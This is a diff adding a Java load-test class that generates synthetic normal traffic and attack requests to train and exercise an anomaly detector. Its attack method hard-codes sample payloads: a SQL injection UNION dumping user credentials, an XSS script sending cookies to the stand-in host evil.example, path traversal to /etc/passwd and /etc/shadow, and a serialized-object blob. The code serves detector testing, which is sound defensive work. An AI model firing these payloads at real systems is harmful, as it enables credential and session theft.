@@ -0,0 +1,168 @@
+package com.sdi.loadtest;
+
+import com.fasterxml.jackson.core.JsonProcessingException;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.sdi.api.SdiRestApi.AnalysisRequest;
+import com.sdi.detector.AnomalyDetector.RequestVector;
+
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+
+/**
+ * Synthetic requests for the analysis endpoint
+ *
+ * Normal requests draw path length, header count and body size from the
+ * configured normal distributions; attacks carry an exploit payload in the
+ * path, body and metadata. Not thread-safe: one generator thread owns it.
+ */
+public class TrafficModel {
+
+    private static final String[] SEGMENTS = {"api", "v1", "orders", "items", "cart", "users", "search", "prices",
+                                              "inventory", "checkout", "sessions", "reviews"};
+    private static final String[] HEADERS = {"accept", "accept-encoding", "accept-language", "authorization",
+                                             "cache-control", "content-type", "cookie", "host", "user-agent",
+                                             "x-request-id", "x-forwarded-for", "x-b3-traceid", "traceparent",
+                                             "connection", "origin", "referer"};
+    private static final String ALPHABET = "abcdefghijklmnopqrstuvwxyz0123456789";
+
+    private final LoadTestProperties.Traffic traffic;
+    private final List<String> attackTypes;
+    private final ObjectMapper mapper = new ObjectMapper();
+    private final Random random;
+    private int nextAttack;
+
+    public TrafficModel(LoadTestProperties properties) {
+        this.traffic = properties.getTraffic();
+        this.attackTypes = properties.getAttack().getTypes();
+        this.random = new Random(properties.getSeed());
+    }
+
+    /**
+     * A normal request, as JSON for the analysis endpoint
+     */
+    public byte[] normal() {
+        return json(normalRequest());
+    }
+
+    /**
+     * The next attack of the configured exploit types, in turn
+     */
+    public byte[] attack() {
+        String type = attackTypes.get(nextAttack++ % attackTypes.size());
+        String service = service();
+        String payload;
+        String path;
+        switch (type) {
+            case "sqli":
+                payload = "' OR '1'='1' UNION SELECT username, password, email FROM users WHERE 'a'='a' --";
+                path = "/api/v1/orders/search?q=" + payload.replace(' ', '+');
+                break;
+            case "xss":
+                payload = "<script>fetch('https://evil.example/c?'+document.cookie)</script>";
+                path = "/api/v1/reviews?comment=" + payload;
+                break;
+            case "path-traversal":
+                payload = "../".repeat(12) + "etc/passwd";
+                path = "/api/v1/files/" + "..%2f".repeat(40) + "etc%2fshadow";
+                break;
+            case "deserialization":
+                payload = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw";
+                path = "/api/v1/sessions/restore";
+                break;
+            default:
+                throw new IllegalArgumentException("Unknown attack type " + type);
+        }
+        AnalysisRequest request = new AnalysisRequest();
+        request.setServiceId(service);
+        request.setMethod("POST");
+        request.setPath(path);
+        request.setHeaders(Map.of("content-type", "application/octet-stream", "user-agent", "sqlmap/1.7.2"));
+        request.setBody(payload.repeat(200));
+        Map<String, String> metadata = new LinkedHashMap<>();
+        metadata.put("payload", payload);
+        metadata.put("attack", type);
+        metadata.put("sourceIp", "203.0.113." + random.nextInt(255));
+        request.setMetadata(metadata);
+        return json(request);
+    }
+
+    /**
+     * Normal requests as the detector sees them, to train it before the run
+     *
+     * Uses the features the REST API derives from a request: path length,
+     * body size, header count and method.
+     */
+    public List<RequestVector> training(int samples) {
+        List<RequestVector> vectors = new ArrayList<>(samples);
+        for (int i = 0; i < samples; i++) {
+            AnalysisRequest request = normalRequest();
+            RequestVector vector = new RequestVector();
+            vector.setServiceId(request.getServiceId());
+            vector.setPathLength(request.getPath().length());
+            vector.setBodySize(request.getBody() != null ? request.getBody().length() : 0);
+            vector.setHeaderCount(request.getHeaders().size());
+            vector.setMethodHash(request.getMethod().hashCode());
+            vectors.add(vector);
+        }
+        return vectors;
+    }
+
+    private AnalysisRequest normalRequest() {
+        boolean get = random.nextDouble() < traffic.getGetShare();
+        AnalysisRequest request = new AnalysisRequest();
+        request.setServiceId(service());
+        request.setMethod(get ? "GET" : "POST");
+        request.setPath(path(sample(traffic.getPathLengthMean(), traffic.getPathLengthStddev(), 2)));
+
+        int headerCount = Math.min(HEADERS.length,
+            sample(traffic.getHeaderCountMean(), traffic.getHeaderCountStddev(), 1));
+        Map<String, String> headers = new LinkedHashMap<>();
+        for (int i = 0; i < headerCount; i++) {
+            headers.put(HEADERS[i], token(12));
+        }
+        request.setHeaders(headers);
+
+        if (!get) {
+            request.setBody(token(sample(traffic.getBodySizeMean(), traffic.getBodySizeStddev(), 2)));
+        }
+        request.setMetadata(Map.of("sourceIp", "10.0." + random.nextInt(255) + "." + random.nextInt(255)));
+        return request;
+    }
+
+    private String service() {
+        List<String> services = traffic.getServices();
+        return services.get(random.nextInt(services.size()));
+    }
+
+    private String path(int length) {
+        StringBuilder path = new StringBuilder();
+        while (path.length() < length) {
+            path.append('/').append(SEGMENTS[random.nextInt(SEGMENTS.length)]);
+        }
+        path.setLength(length);
+        return path.toString();
+    }
+
+    private String token(int length) {
+        StringBuilder token = new StringBuilder(length);
+        for (int i = 0; i < length; i++) {
+            token.append(ALPHABET.charAt(random.nextInt(ALPHABET.length())));
+        }
+        return token.toString();
+    }
+
+    private int sample(double mean, double stddev, int min) {
+        return Math.max(min, (int) Math.round(mean + stddev * random.nextGaussian()));
+    }
+
+    private byte[] json(AnalysisRequest request) {
+        try {
+            return mapper.writeValueAsBytes(request);
+        } catch (JsonProcessingException e) {
+            throw new RuntimeException("Failed to encode request: " + e.getMessage(), e);
+        }
+    }
+}